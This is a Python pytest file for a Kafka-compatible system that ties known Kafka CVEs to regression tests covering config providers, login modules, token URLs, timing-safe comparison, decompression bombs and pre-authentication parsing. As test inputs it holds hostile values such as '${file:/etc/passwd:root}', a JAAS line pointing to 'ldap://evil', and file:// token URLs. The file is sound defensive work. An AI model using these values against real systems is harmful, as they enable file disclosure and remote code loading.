"""The weaknesses that brokers and clients of Kafka have had: one test for each, or the test elsewhere that proves it.

Rules: security.md A68, A69.
"""

from __future__ import annotations

import ast
import re
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from unittest.mock import Mock

import pytest

from fenceline.client.core.config import ClientConfig
from fenceline.config.node import NodeConfig
from fenceline.errors import ErrorCode, OperatorError
from fenceline.node.api.permissions.table import PERMISSIONS
from fenceline.node.api.produce.transactional import has_transactional
from fenceline.node.api.tables import raw_apis
from fenceline.node.net.listening import sasl_of
from fenceline.oauth.token_endpoint import ClientCredentials
from fenceline.records.arrow import ArrowDecoder
from fenceline.records.batch import Codec, TimestampType
from fenceline.records.build import build_batch
from fenceline.records.errors import RecordsError
from fenceline.records.validate import validate_produced
from fenceline.sasl.jaas import parse_jaas
from fenceline.wire.acl_codes import AclOperation, ResourceType
from fenceline.wire.apis import ApiKey
from fenceline.wire.entities import read_request, write_request
from fenceline.wire.errors import MalformedRequest
from fenceline.wire.frame import encode_request_header, parse_request_header
from fenceline.wire.produce import PartitionRecords
from tests.node.api.handlers.fakes import FakeBroker, image_of

ROOT = Path(__file__).parents[2]
SOURCES = ROOT / "src" / "fenceline"

ELSEWHERE = {
    "CVE-2017-12610": "security/test_sasl_server.py::test_plain_refusals security/test_sasl_server.py"
    "::test_scram_refusals security/test_oauth.py::test_login",
    "CVE-2018-1288": "security/test_permissions.py::test_every_request_of_every_user_is_answered_as_by_kafka",
    "CVE-2022-34917": "security/test_fuzzed_authentication.py::test_inputs_before_authentication"
    " scenarios/test_silent_peers.py::test_clients_work_beside_peers_that_send_too_little",
    "CVE-2024-27309": "security/test_acls.py::test_removed_rules_leave_no_trace",
    "CVE-2024-56128": "sasl/test_scram.py::test_answer_to_another_challenge_is_refused",
    "CVE-2026-33557": "security/test_oauth.py::test_signatures_that_are_refused",
    "CVE-2026-35554": "client/producer/test_sender.py::test_batches_in_flight_do_not_change",
    "CVE-2026-83525": "kip/test_kip630_transfer.py::test_leader_rejects_invalid_fetch_snapshot_requests",
}
"""Weaknesses that other tests prove."""

HERE = {
    *("CVE-2018-17196", "CVE-2019-12399", "CVE-2021-38153", "CVE-2023-25194", "CVE-2023-34455", "CVE-2024-31141"),
    *("CVE-2025-27817", "CVE-2025-27818", "CVE-2025-27819", "CVE-2026-33558", "CVE-2026-41115"),
    *("CVE-2026-110985", "CVE-2026-111073", "CVE-2026-111108", "CVE-2026-111115"),
}
LIVE = "test_known_weaknesses_of_a_node.py"


def test_each_weakness_has_a_test() -> None:
    """Those of rule A68."""
    rule = next(line for line in (ROOT / "docs/rules/security.md").read_text().split("\n- ") if "**A68**" in line)
    known = {f"CVE-{number}" for number in re.findall(r"\b20\d\d-\d{4,6}\b", rule)}
    assert known == {*ELSEWHERE} | HERE
    own = Path(__file__).read_text() + Path(__file__).with_name(LIVE).read_text()
    for cve in HERE:
        assert re.search(rf'def test_.*\n    """.*{cve}\b', own), f"no test names {cve}"
    for tests in ELSEWHERE.values():
        for test in tests.split():
            module, _, name = test.partition("::")
            assert f"def {name}" in (ROOT / "tests" / module).read_text()


# --- configuration ----------------------------------------


@pytest.mark.parametrize("value", ["${file:/etc/passwd:root}", "${env:HOME}", "${directory:/etc:passwd}"])
def test_without_a_provider_no_value_is_read_from_elsewhere(value: str) -> None:
    """CVE-2019-12399, CVE-2024-31141: config providers let whoever sets a value read files and variables. Here only the
    owner of a property file names providers: `tests/config/test_providers.py`."""
    config = NodeConfig.load(None, {"ssl.key.password": value}, {})
    assert config.raw["ssl.key.password"] == value
    client = ClientConfig.parse("producer", "127.0.0.1:1", {"sasl.password": value, "sasl.username": value})
    assert (client["sasl.password"], client["sasl.username"]) == (value, value)


@pytest.mark.parametrize(
    "module",
    [
        "com.sun.security.auth.module.JndiLoginModule",
        "com.sun.security.auth.module.LdapLoginModule",
        "org.apache.kafka.common.security.plain.PlainLoginModule2",
    ],
)
def test_login_modules_of_clients_are_listed(module: str) -> None:
    """CVE-2023-25194: a client whose settings others choose loads a login module that connects to them."""
    text = f'{module} required user.provider.url="ldap://evil" useFirstPass="true";'
    assert parse_jaas(text, "x").name == module, "the text is only parsed"
    with pytest.raises(OperatorError, match="unsupported login module"):
        ClientConfig.parse("consumer", "127.0.0.1:1", {"sasl.jaas.config": text})


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://host/x", "data:,x", "jar:file:///x", "/etc/passwd", ""])
def test_clients_ask_only_http_for_tokens(url: str) -> None:
    """CVE-2025-27817: the URL of a token endpoint made a client read files and send what they contain."""
    with pytest.raises(OperatorError, match="token endpoint"):
        ClientCredentials(url, "id", "secret")


# --- secrets ----------------------------------------

_SECRET_NAME = re.compile(
    r"(^|_)(passwords?|secrets?|hmac|proof|(stored|server|client)_key|signature|salted(_password)?|token|given)$"
)


def unsafe_comparisons(source: str) -> Iterator[str]:
    """Comparisons of a secret that end at the first byte that differs."""

    def name(operand: ast.expr) -> str:
        match operand:
            case ast.Name(id=found) | ast.Attribute(attr=found):
                return found
            case ast.Call(func=ast.Attribute(value=value)) | ast.Subscript(value=value):
                return name(value)
        return ""

    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Compare) and any(isinstance(each, (ast.Eq, ast.NotEq)) for each in node.ops):
            operands = [node.left, *node.comparators]
            constants = [each for each in operands if isinstance(each, ast.Constant)]
            if not constants and any(_SECRET_NAME.search(name(each)) for each in operands):
                yield ast.unparse(node)


def test_secrets_are_compared_in_constant_time() -> None:
    """CVE-2021-38153: the time of a comparison told how much of a password was right."""
    for module in sorted(SOURCES.rglob("*.py")):
        assert not list(unsafe_comparisons(module.read_text())), f"{module}: use hmac.compare_digest"
    for module in ("security/sasl_server.py", "sasl/scram.py", "node/metrics_access.py"):
        assert "hmac.compare_digest(" in (SOURCES / module).read_text()


@pytest.mark.parametrize(
    ("source", "is_unsafe"),
    [
        ("known.password == given", True),
        ("token.hmac != asked", True),
        ("x if a.stored_key[:4] == b else y", True),
        ("password.encode() == other", True),
        ("hmac.compare_digest(password, known)", False),
        ("len(proof) != len(signature)", False),
        ("password == ''", False),
        ("token_id == other.token_id", False),
    ],
)
def test_unsafe_comparisons_are_found(source: str, is_unsafe: bool) -> None:
    assert bool(list(unsafe_comparisons(source))) is is_unsafe


def test_a_node_without_keys_for_tokens_does_not_start() -> None:
    """CVE-2026-110985: without keys, the signature of a token was not checked."""
    config = NodeConfig.load(
        None,
        {
            "listeners": "SASL_PLAINTEXT://127.0.0.1:9092",
            "security.inter.broker.protocol": "SASL_PLAINTEXT",
            "sasl.enabled.mechanisms": "OAUTHBEARER",
            "sasl.mechanism.inter.broker.protocol": "OAUTHBEARER",
        },
        {},
    )
    with pytest.raises(OperatorError, match="has no keys"):
        sasl_of(config, config.listeners, Mock(), Mock())


# --- bytes ----------------------------------------

BOMB_BYTES = 100_000_000
MOST_BYTES = 1 << 20
CODECS = [Codec.GZIP, Codec.SNAPPY, Codec.LZ4, Codec.ZSTD]


def as_broker(batch: bytearray) -> None:
    """With `fenceline.validate.compressed.records`."""
    validate_produced(
        memoryview(batch),
        version=9,
        max_message_bytes=1 << 30,
        timestamp_type=TimestampType.CREATE_TIME,
        target_codec=None,
        now_ms=0,
        check_compressed=True,
        max_decompressed_bytes=MOST_BYTES,
    )


def as_client(batch: bytearray) -> None:
    ArrowDecoder(max_decompressed_bytes=MOST_BYTES).append("t", 0, batch)


@pytest.mark.parametrize("codec", CODECS)
@pytest.mark.parametrize("decode", [as_broker, as_client])
def test_decompression_stops_at_the_limit(decode: Callable[[bytearray], None], codec: Codec) -> None:
    """CVE-2023-34455: snappy allocated what a batch claimed. `tests/records/test_compression.py` has other bombs."""
    batch = build_batch([(0, None, bytes(BOMB_BYTES), ())], codec=codec)
    tracemalloc.start()
    try:
        with pytest.raises(RecordsError) as refused:
            decode(batch)
        assert tracemalloc.get_traced_memory()[1] < 4 * MOST_BYTES
    finally:
        tracemalloc.stop()
    assert refused.value.code is ErrorCode.MESSAGE_TOO_LARGE


def huge_counts() -> Iterator[bytes]:
    """Of each request that is read before authentication: its header with a count of tagged fields, its body with one
    at each position."""
    counts = (b"\x7f\xff\xff\xff", b"\xff\xff\xff\xff\x0f", b"\xff\xff\xff\xff\x07", b"\x80\x80\x80\x80\x08")
    requests: tuple[tuple[ApiKey, int, dict[str, Any]], ...] = (
        (ApiKey.API_VERSIONS, 3, {"client_software_name": "a" * 9, "client_software_version": "1" * 9}),
        (ApiKey.API_VERSIONS, 4, {"client_software_name": "a" * 9, "client_software_version": "1" * 9}),
        (ApiKey.SASL_HANDSHAKE, 1, {"mechanism": "PLAIN" * 4}),
        (ApiKey.SASL_AUTHENTICATE, 0, {"auth_bytes": b"x" * 20}),
        (ApiKey.SASL_AUTHENTICATE, 2, {"auth_bytes": b"x" * 20}),
    )
    for key, version, fields in requests:
        whole = encode_request_header(key, version, 7, "me") + write_request(key, version, fields)
        for count in counts:
            for at in range(4, len(whole)):
                yield whole[:at] + count + whole[at + len(count) :]
                yield whole[:at] + count + bytes(60_000)


def test_counts_allocate_nothing_before_authentication() -> None:
    """CVE-2026-111108, CVE-2026-111115: counts of arrays, and of tagged fields in headers, reserved memory."""
    frames = list(huge_counts())
    most = 0
    for frame in frames:
        tracemalloc.start()
        try:
            header = parse_request_header(frame)
            read_request(header.api_key, header.api_version, frame[header.body_position :])
        except MalformedRequest:
            pass
        finally:
            most = max(most, tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
    assert most < 400_000


@pytest.mark.parametrize("partition", [0, 1])
@pytest.mark.parametrize("batch", [0, 1])
def test_transactional_batches_are_found_wherever_they_are(partition: int, batch: int) -> None:
    """CVE-2018-17196: a crafted Produce request hid a transactional batch from the check of its transactional id."""
    plain, hidden = build_batch([(0, None, b"a", ())]), build_batch([(0, None, b"b", ())], transactional=True)
    rows = [[plain, plain], [plain, plain]]
    rows[partition][batch] = hidden
    partitions = [PartitionRecords("t", None, number, memoryview(b"".join(row))) for number, row in enumerate(rows)]
    if batch == 0:
        assert has_transactional(partitions)
        return
    with pytest.raises(RecordsError) as refused:
        as_broker(bytearray(partitions[partition].records or b""))
    assert refused.value.code is ErrorCode.INVALID_RECORD, "a second batch is refused with its partition"


def test_telemetry_is_not_spoken() -> None:
    """CVE-2026-111073: metrics of clients were decompressed without a limit."""
    node = FakeBroker(image_of())
    spoken = {api.key for api in (*node.apis, *node.controller_apis)} | set(raw_apis(Mock(), Mock()))
    assert ApiKey.FETCH in spoken
    assert not spoken & {ApiKey.GET_TELEMETRY_SUBSCRIPTIONS, ApiKey.PUSH_TELEMETRY}


def test_describing_a_group_needs_describe() -> None:
    """CVE-2026-41115: ConsumerGroupDescribe asked for READ. All requests: `test_permissions.py`."""
    assert [*PERMISSIONS[ApiKey.CONSUMER_GROUP_DESCRIBE].needs] == [
        (AclOperation.DESCRIBE, ResourceType.GROUP),
        (AclOperation.DESCRIBE, ResourceType.TOPIC),
    ]
